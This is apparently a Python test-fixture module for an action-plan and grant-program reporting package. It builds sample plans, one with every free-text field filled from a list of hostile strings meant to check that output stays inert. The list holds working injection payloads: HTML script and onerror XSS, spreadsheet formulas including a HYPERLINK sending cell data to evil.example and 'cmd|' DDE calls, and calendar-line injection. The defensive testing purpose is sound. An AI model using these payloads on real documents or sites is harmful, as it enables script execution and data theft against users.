"""Sample documents shipped with the package, for the conformance kits and plugin tests.

A plugin's test run has no ``examples/`` folder: the documents the kits need travel
inside the package (``actionplan/testing/data/``, copies of the project's examples kept
identical by a test) or are built here in code.

* :func:`report_samples` — every plan a report format must render: the two example plans
  (one tracked through the year, one carrying a grant program with its applications), a
  plan with no themes, and a plan full of hostile text;
* :func:`grant_samples` — the Alliance program with its plan and its eight applications
  (:func:`grant_sample`), and a bare program with no territory, budget nor calls; plus
  :func:`edge_applications`, applications missing every optional piece of data;
* :data:`HOSTILE_TEXTS` — the hostile strings, each chosen to break one kind of output.
"""

from __future__ import annotations

import datetime as dt
import functools
from decimal import Decimal
from importlib import resources
from typing import Any

import attrs

__all__ = [
    "GRANT_SAMPLE_NAMES", "HOSTILE_TEXTS", "INJECTED", "INJECTED_LINE", "LONG_TEXT", "REPORT_SAMPLE_NAMES",
    "SAMPLE_FILES", "GrantSample", "ReportSample", "bare_grant_sample", "edge_applications", "empty_plan",
    "example_plans", "grant_sample", "grant_samples", "hostile_sample", "load_sample",
    "report_sample", "report_samples",
]

#: The files of ``actionplan/testing/data/``: the examples of the project, as shipped.
SAMPLE_FILES = ("concertation-horizon-2026.yaml", "concertation-horizon-2026-suivi.yaml",
                "alliance-maskoutains-2019-2023.yaml", "alliance-maskoutains-demandes.yaml")

#: A marker every injection attempt carries: found in active content (a script, a formula,
#: an element of its own), it proves the hostile text escaped.
INJECTED = "actionplan-injected"
#: The marker of text that tries to start a line of its own (a heading, a calendar property).
INJECTED_LINE = "actionplan-injected-line"

#: Longer than a spreadsheet cell holds (32 767 characters) and than any line should be.
LONG_TEXT = "Très long texte sans fin « à couper » " * 1000

#: Text that must stay inert in every format, one way of breaking an output each.
HOSTILE_TEXTS: tuple[str, ...] = (
    f"<script>alert('{INJECTED}')</script>",                        # HTML: a script
    f'"><img src=x onerror=alert("{INJECTED}")>',                    # HTML: out of an attribute
    f"'><{INJECTED} onload=alert('{INJECTED}')>",
    f"Tom & Jerry <{INJECTED}>gras</{INJECTED}> ]]> <![CDATA[{INJECTED}]]> <!-- x --> &amp; &#0; &lt;",  # XML
    f'=HYPERLINK("http://evil.example/?{INJECTED}="&A1,"Cliquez ici")',  # spreadsheet formulas
    f"+cmd|' /C calc {INJECTED}'!A0",
    f"-2+3+cmd|' /C calc {INJECTED}'!A0",
    f"@SUM(A1:A9) {INJECTED}",
    f"\t={INJECTED}()",
    f"\r={INJECTED}()",
    f"Réunion\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{INJECTED_LINE}",  # a calendar or CSV line of its own
    f"ligne 1\n# {INJECTED_LINE}\n| a | b |\n---\n\"guillemets\" 'apostrophes' \\ ; , \t fin",  # Markdown, CSV
    f"avant\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\ufffe\uffff après {INJECTED}",  # control characters
    f"{{{{ 7*7 }}}} {{% raw %}} ${{{INJECTED}}} {{0}} %s",           # template and format syntax
    f"مرحبا بالعالم \u202egnirts desrever\u202c 👩🏽‍🌾 🇨🇦 \u200b{INJECTED}",  # right-to-left, emoji, zero-width
    LONG_TEXT,
)


@attrs.frozen
class ReportSample:
    """A plan a report format must render, with the date to render it at.

    ``applications`` is the plan's ``type: applications`` document when its grant
    program has one (formats such as 360Giving read it through an option).
    """

    name: str
    plan: Any
    as_of: dt.date
    applications: Any = None
    description: str = ""


@attrs.frozen
class GrantSample:
    """A grant program with the plan carrying it, applications to judge and the day used
    for applications without a deposit date."""

    name: str
    plan: Any
    program: Any
    applications: tuple[Any, ...]
    default_day: dt.date


def _data(name: str) -> bytes:
    return resources.files("actionplan.testing").joinpath("data", name).read_bytes()


@functools.cache
def load_sample(name: str) -> Any:
    """A shipped sample document, loaded and checked (``name`` is one of :data:`SAMPLE_FILES`)."""
    from ..documents import loads

    if name not in SAMPLE_FILES:
        raise ValueError(f"no sample named {name!r}; samples: {', '.join(SAMPLE_FILES)}")
    return loads(_data(name))


def example_plans() -> tuple[ReportSample, ...]:
    """The project's two example plans, as shipped.

    ``concertation-horizon-2026``: 105 indicators of every kind with a year of (illustrative)
    measurements, so every status shows at the date; ``alliance-maskoutains-2019-2023``: the
    Alliance grant program, with its applications, decisions and payments.
    """
    from ..checks import check_tracking
    from ..model import with_measurements

    plan = load_sample("concertation-horizon-2026.yaml")
    log = load_sample("concertation-horizon-2026-suivi.yaml")
    issues = [issue for issue in check_tracking(log, plan) if issue.severity == "error"]
    assert not issues, issues  # the shipped log fits the shipped plan (a test keeps them so)
    tracked = with_measurements(plan, log.counted())  # updates waiting for a reviewer do not count yet
    return (
        ReportSample("concertation-horizon-2026", tracked, dt.date(2026, 10, 1),
                     description="a round table's plan, tracked from January to September"),
        ReportSample("alliance-maskoutains-2019-2023", load_sample("alliance-maskoutains-2019-2023.yaml"),
                     dt.date(2021, 10, 1), load_sample("alliance-maskoutains-demandes.yaml"),
                     description="a grant program's plan, with applications, decisions and payments"),
    )


def empty_plan() -> Any:
    """A plan with no themes, no organisations and no mission: every section of a report is empty."""
    from ..documents import from_data

    return from_data({"id": "plan-vide", "title": "Plan vide",
                      "period": {"start": dt.date(2026, 1, 1), "end": dt.date(2026, 12, 31)}, "themes": []})


def _hostile_plan_data() -> dict:
    h = HOSTILE_TEXTS

    def text(i: int) -> str:
        return h[i % len(h)]

    indicators: list[dict[str, Any]] = [
        {"id": "i-count", "label": text(0), "kind": "count", "target": 4, "unit": text(1), "note": text(2)},
        {"id": "i-rate", "label": text(3), "kind": "rate", "target": 75, "unit": "%"},
        {"id": "i-deliverable", "label": text(4), "kind": "deliverable"},
        {"id": "i-qualitative", "label": text(5), "kind": "qualitative"},
        {"id": "i-milestone", "label": text(6), "kind": "milestone", "due": dt.date(2021, 3, 31)},
        {"id": "i-tracked", "label": text(7), "kind": "tracked", "unit": text(8)},
        {"id": "i-coverage", "label": text(9), "kind": "coverage", "target_territories": ["mrc:les-maskoutains"]},
        {"id": "i-minimum", "label": text(10), "kind": "minimum", "target": 1},
    ]
    actions = []
    for k in range(len(h)):  # every hostile text as an action's title, its schedule and its indicator
        actions.append({
            "id": f"a{k}", "title": text(k), "description": text(k + 1), "schedule": text(k + 2),
            "partners": [{"organisation": "org-a", "role": "lead"}, {"organisation": "org-b", "role": "responsible",
                                                                     "note": text(k + 3)}],
            "territories": ["mrc:les-maskoutains"],
            "indicators": [indicators[k % len(indicators)] | {"id": f"{indicators[k % len(indicators)]['id']}-{k}"}],
        })
    actions.append({"id": "a-dates", "title": text(11), "schedule": "Hiver 2020-2021", "indicators": indicators})
    return {
        "id": "plan-hostile", "title": f"Plan {h[0]}", "language": "fr", "fiscal_years": True,
        "period": {"start": dt.date(2019, 4, 1), "end": dt.date(2023, 3, 31)},
        "mission": text(1), "free_text_schedules": True, "organisation": "org-a",
        "organisations": [{"id": "org-a", "name": text(3), "short_name": text(4), "kind": text(12)},
                          {"id": "org-b", "name": text(5)}],
        "territories": ["mrc:les-maskoutains"],
        "themes": [
            {"id": "t-priorite", "title": text(3), "kind": "priorite", "number": 1, "heading": text(0),
             "general_objective": text(2),
             "objectives": [{"id": "o1", "title": text(4), "subheading": text(1), "actions": actions}]},
            {"id": "t-autre", "title": text(13), "kind": "enjeu_federateur", "heading": text(14),
             "objectives": [{"id": "o2", "title": LONG_TEXT, "actions": [{"id": "a-vide", "title": text(9)}]}]},
        ],
        "program": {
            "id": "programme-hostile", "title": text(9), "period": {"start": dt.date(2019, 4, 1),
                                                                  "end": dt.date(2023, 3, 31)},
            "funder": "org-b", "territories": ["mrc:les-maskoutains"], "priorities": ["t-priorite"],
            "chain": {"steps": [{"id": "comite", "title": text(0), "organisation": "org-b", "decides": "approve"}]},
            "budget": {"2020-2021": Decimal("1000.50"), "2021-2022": Decimal(0)},
            "calls": [{"id": "appel", "title": text(3), "schedule": "Hiver 2020-2021", "note": text(10),
                       "deadlines": [{"date": dt.date(2021, 1, 15)}]}],
        },
    }


def hostile_sample() -> ReportSample:
    """A plan (with a grant program and an approved application) whose every free text is hostile.

    Each of :data:`HOSTILE_TEXTS` stands as a title, a description, a schedule, an
    indicator's label, an organisation's name…; measurements of several kinds give the
    indicators statuses, so the texts show in every part of a report.
    """
    from ..documents import from_data
    from ..model.grants import ApplicationsDocument
    from ..model import Measurement, with_measurements

    plan = from_data(_hostile_plan_data())
    h = HOSTILE_TEXTS
    plan = with_measurements(plan, [
        Measurement(date=dt.date(2020, 6, 1), value=Decimal(2), indicator="i-count", note=h[0]),
        Measurement(date=dt.date(2020, 6, 1), numerator=Decimal(3), denominator=Decimal(4), indicator="i-rate"),
        Measurement(date=dt.date(2020, 7, 1), done=True, indicator="i-deliverable", note=h[3]),
        Measurement(date=dt.date(2020, 8, 1), level="partiel", indicator="i-qualitative", note=h[9]),
        Measurement(date=dt.date(2020, 9, 1), value=Decimal("7.5"), indicator="i-tracked", note=h[11]),
        Measurement(date=dt.date(2020, 9, 1), territories=("mun:saint-pie",), indicator="i-coverage"),
    ])
    applications = from_data({
        "type": "applications", "program": plan.id,
        "organisations": [{"id": "porteur", "name": h[1]}, {"id": "partenaire", "name": h[3]}],
        "applications": [{"id": "demande-1", "title": h[0], "lead": "porteur", "description": h[9], "note": h[10],
                          "partners": [{"organisation": "partenaire", "role": "executing", "note": h[12]}],
                          "territories": ["mrc:les-maskoutains"], "priorities": ["t-priorite"],
                          "requested": {"2020-2021": Decimal(500)}, "deposited": dt.date(2021, 1, 10),
                          "start": dt.date(2021, 2, 1), "end": dt.date(2022, 1, 31)}],
        "decisions": [{"application": "demande-1", "body": "comite", "date": dt.date(2021, 2, 1),
                       "outcome": "favourable", "resolution": h[6], "note": h[4]}],
    }, ApplicationsDocument)
    return ReportSample("hostile", plan, dt.date(2021, 10, 1), applications,
                        description="hostile text in every free-text field")


#: The names of :func:`report_samples`, in order.
REPORT_SAMPLE_NAMES = ("concertation-horizon-2026", "alliance-maskoutains-2019-2023", "empty", "hostile")


@functools.cache
def report_samples() -> tuple[ReportSample, ...]:
    """Every plan a report format must render: the examples, an empty plan and the hostile plan."""
    samples = (*example_plans(), ReportSample("empty", empty_plan(), dt.date(2026, 6, 1), description="no themes"),
               hostile_sample())
    assert tuple(s.name for s in samples) == REPORT_SAMPLE_NAMES
    return samples


def report_sample(name: str) -> ReportSample:
    """The report sample called ``name`` (one of :data:`REPORT_SAMPLE_NAMES`)."""
    for sample in report_samples():
        if sample.name == name:
            return sample
    raise ValueError(f"no report sample named {name!r}; samples: {', '.join(REPORT_SAMPLE_NAMES)}")


def grant_sample() -> GrantSample:
    """The Alliance program of the MRC des Maskoutains, its plan and its eight applications.

    The applications were made up to put each Alliance criterion on both sides of its
    threshold (see the comments of ``alliance-maskoutains-demandes.yaml``).
    """
    plan = load_sample("alliance-maskoutains-2019-2023.yaml")
    applications = load_sample("alliance-maskoutains-demandes.yaml").applications
    return GrantSample("alliance-maskoutains-2019-2023", plan, plan.program, tuple(applications), dt.date(2020, 2, 1))


def bare_grant_sample() -> GrantSample:
    """A program with its priorities (the Alliance's) and nothing else: no territory, no
    budget, no calls, no organisations, carried by a plan whose priorities hold no objective;
    the Alliance's applications are judged by it."""
    from ..documents import from_data

    period = {"start": dt.date(2019, 4, 1), "end": dt.date(2023, 3, 31)}
    priorities = list(grant_sample().program.priorities)
    themes = [{"id": p, "title": f"Priorité {n}", "kind": "priorite", "number": n, "objectives": []}
              for n, p in enumerate(priorities, start=1)]
    plan = from_data({"id": "programme-minimal", "title": "Programme minimal", "period": period, "themes": themes,
                      "program": {"id": "fonds-minimal", "title": "Fonds minimal", "period": period,
                                  "priorities": priorities}})
    return GrantSample("bare", plan, plan.program, grant_sample().applications, dt.date(2020, 2, 1))


#: The names of :func:`grant_samples`, in order.
GRANT_SAMPLE_NAMES = ("alliance-maskoutains-2019-2023", "bare")


def grant_samples() -> tuple[GrantSample, ...]:
    """Every program a criterion must judge applications of: the Alliance and a bare program."""
    return grant_sample(), bare_grant_sample()


def edge_applications() -> tuple[Any, ...]:
    """Applications missing optional data, or naming what the program does not know.

    A criterion must judge each of them (a verdict, with its reasons) rather than fail.
    """
    from ..model.grants import Application
    from ..model import Participation

    return (
        Application(id="bare", title="Demande sans rien d'autre", lead="porteur-seul"),
        Application(id="undated", title="Demande sans date de dépôt", lead="porteur",
                    partners=(Participation("partenaire", "executing"),), territories=("mrc:les-maskoutains",),
                    priorities=("priorite-1-securite-alimentaire",), requested={"2020-2021": Decimal(1000)}),
        Application(id="elsewhere", title="Demande hors du territoire", lead="porteur", deposited=dt.date(2020, 2, 1),
                    territories=("mrc:roussillon", "mun:candiac"), priorities=("priorite-inconnue",),
                    partners=(Participation("porteur", "executing"), Participation("appui", "support"))),
        Application(id="zero", title="Demande à zéro dollar", lead="porteur", deposited=dt.date(2022, 3, 31),
                    requested={"2021-2022": Decimal(0)}, scores={"inconnu": Decimal(0)},
                    priorities=("priorite-1-securite-alimentaire", "priorite-1-securite-alimentaire")),
    )
